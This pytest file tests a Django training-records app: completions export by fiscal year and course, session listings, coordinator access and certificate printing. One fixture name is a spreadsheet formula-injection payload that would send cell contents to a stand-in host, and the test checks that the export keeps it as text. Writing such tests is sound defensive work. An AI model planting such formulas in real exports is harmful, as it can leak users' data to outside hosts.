"""The completions export the training institute downloads (by fiscal year and course, no formula
reaches a spreadsheet), and classroom sessions as people find them (the next one, where to record)."""

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone
from learning_helpers import starter

from thaothiam.agencies.models import Agency
from thaothiam.core.models import AuditEvent
from thaothiam.learning.models import Certificate, Completion, Course, Session


def _record(course, *, fy, name, key, day=None):
    return Completion.objects.create(course=course, source="attendance", completed_on=day or dt.date(fy - 544, 2, 1),
                                     fiscal_year=fy, agency=Agency.objects.get(code="DIS-1001"), sex="F",
                                     learner_key=key, name=name)


@pytest.fixture
def classroom(reference_data):
    return Course.objects.create(code="cls", kind="classroom", title_th="อบรม", is_published=True)


def test_the_export_filters_by_year_and_course_and_keeps_formulas_as_text(users, client_for, classroom):
    plain = _record(classroom, fy=2568, name="สมหญิง ใจดี", key="a")
    _record(classroom, fy=2568, name="=HYPERLINK(\"http://x.example/?\"&A1,\"คลิก\")", key="b")
    _record(classroom, fy=2569, name="ปีหน้า", key="c")
    _record(starter(), fy=2568, name="อีกหลักสูตร", key="d")
    Certificate.objects.create(completion=plain, code="K7QX-9PLM", issued_on=plain.completed_on,
                               revoked_at=timezone.now(), revoked_reason="ผิดคน")
    central = client_for("central")
    page = central.get("/learning/manage/").content.decode()
    assert 'data-testid="completions-export"' in page and 'value="2568"' in page and 'value="2569"' in page
    response = central.get(f"/learning/manage/completions.csv?fy=2568&course={classroom.pk}")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [r[12] for r in rows[1:]]
    assert sorted(names) == sorted(["สมหญิง ใจดี", "'=HYPERLINK(\"http://x.example/?\"&A1,\"คลิก\")"])
    assert next(r for r in rows if r[12] == "สมหญิง ใจดี")[13].startswith("K7QX-9PLM (")  # revoked, and says so
    assert f"course{classroom.pk}" in response["Content-Disposition"]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(central.get(f"/learning/manage/completions.xlsx?fy=2568&course={classroom.pk}").content))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row if str(c.value).startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula
    assert AuditEvent.objects.filter(action="learning.completions.export", note__contains=f"course={classroom.pk}").exists()


def test_the_catalogue_shows_the_next_session_not_a_past_one(users, client_for, classroom):
    today = timezone.localdate()
    Session.objects.create(course=classroom, starts_on=today - dt.timedelta(days=400),
                           ends_on=today - dt.timedelta(days=399), place_th="ห้องเก่า", capacity=10)
    Session.objects.create(course=classroom, starts_on=today + dt.timedelta(days=30),
                           ends_on=today + dt.timedelta(days=31), place_th="ห้องใหม่", capacity=10)
    page = client_for("staff").get("/learning/").content.decode()
    card = page.split('data-testid="next-session"')[1].split("</p>")[0]
    assert "ห้องใหม่" in card and "ห้องเก่า" not in card


def test_a_coordinator_finds_where_to_record_their_agencys_session(users, client_for, classroom):
    ours = Session.objects.create(course=classroom, starts_on=dt.date(2025, 2, 3), ends_on=dt.date(2025, 2, 3),
                                  place_th="เขต", capacity=10, agency=Agency.objects.get(code="DIS-1001"))
    institute = Session.objects.create(course=classroom, starts_on=dt.date(2025, 3, 3), ends_on=dt.date(2025, 3, 3),
                                       place_th="สถาบัน", capacity=10)
    page = client_for("coordinator").get(f"/learning/courses/{classroom.pk}/").content.decode()
    assert f'data-testid="session-record-{ours.pk}"' in page
    assert f'data-testid="session-record-{institute.pk}"' not in page
    assert "session-record-" not in client_for("staff").get(f"/learning/courses/{classroom.pk}/").content.decode()
    assert f'data-testid="session-record-{institute.pk}"' in client_for("central").get(
        f"/learning/courses/{classroom.pk}/").content.decode()


def test_central_prints_the_certificates_it_issued_to_attendees(users, client_for, classroom):
    session = Session.objects.create(course=classroom, starts_on=dt.date(2025, 2, 3), ends_on=dt.date(2025, 2, 3),
                                     place_th="เขต", capacity=10, agency=Agency.objects.get(code="DIS-1001"))
    record = Completion.objects.create(course=classroom, session=session, source="attendance",
                                       completed_on=session.ends_on, fiscal_year=2568,
                                       agency=Agency.objects.get(code="DIS-1001"), sex="F", learner_key="e1",
                                       name="สมใจ ตั้งใจ")
    central = client_for("central")
    central.post(f"/learning/sessions/{session.pk}/certificates/")
    certificate = Certificate.objects.get(completion=record)
    link = f'href="/learning/certificates/{certificate.pk}.pdf"'
    assert link in central.get(f"/learning/sessions/{session.pk}/").content.decode()
    assert link in central.get("/learning/manage/certificates/").content.decode()
    assert link not in client_for("coordinator").get(f"/learning/sessions/{session.pk}/").content.decode()
